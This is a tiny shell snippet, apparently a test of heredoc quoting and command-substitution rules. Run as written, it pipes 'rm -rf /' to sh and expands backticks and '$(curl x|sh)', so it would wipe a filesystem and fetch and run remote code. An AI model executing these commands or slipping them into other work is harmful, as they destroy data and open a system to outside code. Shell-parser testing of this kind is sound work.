cat <<-'E' | sh
	rm -rf /
	E
cat <<E
`rm -rf /` $(curl x|sh) ${a:-$(id)}
E
